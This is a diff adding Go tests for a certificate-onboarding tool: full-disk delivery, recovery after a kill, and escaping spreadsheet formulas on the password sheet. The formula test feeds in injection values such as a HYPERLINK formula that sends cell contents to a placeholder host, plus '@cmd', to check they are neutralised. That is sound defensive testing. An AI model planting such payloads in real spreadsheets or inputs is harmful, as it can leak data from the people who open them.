@@ -1,0 +1,229 @@
+package onboard
+
+import (
+	"context"
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"certdesk/core/pki"
+	"certdesk/core/testpeer"
+	"certdesk/core/vault"
+)
+
+func newVault(t *testing.T) (*vault.Vault, vault.CA) {
+	t.Helper()
+	v, err := vault.Create(filepath.Join(t.TempDir(), "v.db"), nil, vault.CreateOptions{Insecure: true})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { v.Close() })
+	ca, err := v.CreateCA(context.Background(), "Team", pki.CARequest{Name: pki.Name{CommonName: "Team"}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return v, ca
+}
+
+func people(t *testing.T, n int) []Row {
+	t.Helper()
+	var b strings.Builder
+	for i := range n {
+		fmt.Fprintf(&b, "Person %02d,p%02d@example.com\n", i, i)
+	}
+	rows, err := ParseCSV(strings.NewReader(b.String()), pki.DefaultKeyType)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
+
+// mountTmpfs mounts a tmpfs of the given size (as root; with CI=true a
+// failure to mount fails the test) and unmounts it at the end.
+func mountTmpfs(t *testing.T, size string) string {
+	t.Helper()
+	dir := t.TempDir()
+	if out, err := exec.Command("mount", "-t", "tmpfs", "-o", "size="+size+",mode=0700", "tmpfs", dir).CombinedOutput(); err != nil {
+		if os.Getenv("CI") == "true" {
+			t.Fatalf("mounting a tmpfs (CI needs root for this test): %v %s", err, out)
+		}
+		t.Skipf("cannot mount a tmpfs (not root?): %v %s", err, out)
+	}
+	t.Cleanup(func() {
+		if out, err := exec.Command("umount", dir).CombinedOutput(); err != nil {
+			t.Errorf("umount %s: %v %s", dir, err, out)
+		}
+	})
+	return dir
+}
+
+// readSheetFile returns the sheet's rows, header first.
+func readSheetFile(t *testing.T, path string) [][]string {
+	t.Helper()
+	f, err := os.Open(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := csv.NewReader(f).ReadAll()
+	if err != nil {
+		t.Fatalf("the password sheet is not valid CSV: %v", err)
+	}
+	return rows
+}
+
+// TestFullDisk issues onto a tmpfs too small for everyone: every row is
+// either on the sheet with a PKCS#12 that openssl opens with the sheet's
+// password, or named as issued but not delivered. After space is freed a
+// re-run delivers exactly the undelivered rows, with new files and
+// passwords, and refuses the delivered ones.
+func TestFullDisk(t *testing.T) {
+	openssl := testpeer.Require(t, "openssl")
+	ctx := context.Background()
+	v, ca := newVault(t)
+	mnt := mountTmpfs(t, "24k")
+	out := filepath.Join(mnt, "out")
+	rows := people(t, 30)
+	rep, err := Run(ctx, v, ca, rows, Options{OutDir: out})
+	if err != nil {
+		t.Fatalf("a full disk is reported per row, not as one error: %v", err)
+	}
+	if rep.Undelivered == 0 || rep.Issued == 0 {
+		t.Fatalf("want some rows delivered and some not on a 24k tmpfs: %d delivered, %d not", rep.Issued, rep.Undelivered)
+	}
+	undelivered := map[int64]bool{}
+	for _, r := range rep.Results {
+		switch {
+		case r.Err == nil:
+		case r.Undelivered && errors.Is(r.Err, ErrNotDelivered) && strings.Contains(r.Err.Error(), "no space left"):
+			undelivered[r.Record.ID] = true
+		default:
+			t.Errorf("row %d: %v (undelivered %v)", r.Row.Line, r.Err, r.Undelivered)
+		}
+	}
+	if rep.Issued+len(undelivered) != len(rows) {
+		t.Errorf("%d delivered + %d named undelivered, want all %d rows", rep.Issued, len(undelivered), len(rows))
+	}
+	checkSheet(t, openssl, filepath.Join(out, SheetName), rep.Issued)
+	t.Logf("24k tmpfs: %d delivered, %d named undelivered, e.g. %v", rep.Issued, len(undelivered), rep.Results[len(rows)-1].Err)
+
+	// Free space: the re-run delivers the rest.
+	if o, err := exec.Command("mount", "-o", "remount,size=4m", mnt).CombinedOutput(); err != nil {
+		t.Fatalf("remount: %v %s", err, o)
+	}
+	again, err := Run(ctx, v, ca, rows, Options{OutDir: out})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if again.Issued != len(undelivered) || again.Undelivered != 0 {
+		t.Errorf("re-run delivered %d, %d undelivered; want %d and 0", again.Issued, again.Undelivered, len(undelivered))
+	}
+	for _, r := range again.Results {
+		if undelivered[r.Record.ID] != (r.Err == nil) || (r.Err == nil && !r.Redelivered) {
+			t.Errorf("row %d on the re-run: %v (redelivered %v)", r.Row.Line, r.Err, r.Redelivered)
+		}
+		if r.Err != nil && !strings.Contains(r.Err.Error(), "already holds a valid certificate") {
+			t.Errorf("row %d on the re-run: %v", r.Row.Line, r.Err)
+		}
+	}
+	checkSheet(t, openssl, filepath.Join(out, SheetName), len(rows))
+	if n, _ := v.Count(ctx, vault.Filter{Kind: vault.KindClient}); n != len(rows) {
+		t.Errorf("%d certificates, want one per person (%d)", n, len(rows))
+	}
+}
+
+// checkSheet: the sheet has want rows, one per serial, and openssl opens
+// each row's PKCS#12 with its password.
+func checkSheet(t *testing.T, openssl, path string, want int) {
+	t.Helper()
+	rows := readSheetFile(t, path)
+	if len(rows)-1 != want {
+		t.Fatalf("the sheet has %d rows, want %d", len(rows)-1, want)
+	}
+	seen := map[string]bool{}
+	for _, r := range rows[1:] {
+		if seen[r[4]] {
+			t.Errorf("serial %s twice on the sheet", r[4])
+		}
+		seen[r[4]] = true
+		testpeer.Run(t, openssl, "pkcs12", "-in", filepath.Join(filepath.Dir(path), r[2]), "-passin", "pass:"+r[3], "-noout")
+	}
+}
+
+// TestKilledAfterSigning: certificates stored by IssuePeople whose files
+// were never written (a kill) are delivered by the next run instead of
+// refused as "already holds a valid certificate".
+func TestKilledAfterSigning(t *testing.T) {
+	openssl := testpeer.Require(t, "openssl")
+	ctx := context.Background()
+	v, ca := newVault(t)
+	rows := people(t, 4)
+	var reqs []pki.PersonRequest
+	for _, r := range rows[:3] {
+		reqs = append(reqs, r.Req)
+	}
+	if _, err := v.IssuePeople(ctx, ca, reqs, nil); err != nil {
+		t.Fatal(err)
+	}
+	out := filepath.Join(t.TempDir(), "out")
+	rep, err := Run(ctx, v, ca, rows, Options{OutDir: out})
+	if err != nil || rep.Issued != 4 || rep.Failed != 0 {
+		t.Fatalf("%d delivered, %d failed, %v", rep.Issued, rep.Failed, err)
+	}
+	for i, r := range rep.Results {
+		if r.Redelivered != (i < 3) {
+			t.Errorf("row %d: redelivered %v", r.Row.Line, r.Redelivered)
+		}
+	}
+	checkSheet(t, openssl, filepath.Join(out, SheetName), 4)
+	// Everyone is delivered now: a third run refuses them all.
+	rep, err = Run(ctx, v, ca, rows, Options{OutDir: out})
+	if err != nil || rep.Issued != 0 || rep.Failed != 4 {
+		t.Fatalf("third run: %d delivered, %d failed, %v", rep.Issued, rep.Failed, err)
+	}
+	checkSheet(t, openssl, filepath.Join(out, SheetName), 4)
+}
+
+// TestFormulaCells: names that a spreadsheet would run as formulas reach
+// the sheet as text (a leading quote), and Python's csv module reads the
+// sheet back as the same six cells per row.
+func TestFormulaCells(t *testing.T) {
+	python := testpeer.Require(t, "python3")
+	ctx := context.Background()
+	v, ca := newVault(t)
+	names := []string{`=HYPERLINK("http://x/"&A2)`, "+SUM(1)", "-2+3", "@cmd", "Plain, Name"}
+	var b strings.Builder
+	w := csv.NewWriter(&b)
+	for i, n := range names {
+		w.Write([]string{n, fmt.Sprintf("p%d@example.com", i)})
+	}
+	w.Flush()
+	rows, err := ParseCSV(strings.NewReader(b.String()), pki.DefaultKeyType)
+	if err != nil {
+		t.Fatal(err)
+	}
+	out := filepath.Join(t.TempDir(), "out")
+	rep, err := Run(ctx, v, ca, rows, Options{OutDir: out})
+	if err != nil || rep.Issued != len(names) {
+		t.Fatalf("%d issued, %v: %+v", rep.Issued, err, rep.Results)
+	}
+	got := testpeer.Run(t, python, "-c", `import csv,sys
+for r in csv.reader(open(sys.argv[1], newline="")):
+    assert len(r) == 6, r
+    print(r[0])`, filepath.Join(out, SheetName))
+	lines := strings.Split(strings.TrimSpace(got), "\n")[1:]
+	for i, n := range names {
+		want := n
+		if strings.ContainsAny(n[:1], "=+-@") {
+			want = "'" + n
+		}
+		if i >= len(lines) || lines[i] != want {
+			t.Errorf("sheet cell %d = %q, want %q", i, lines[min(i, len(lines)-1)], want)
+		}
+	}
+}
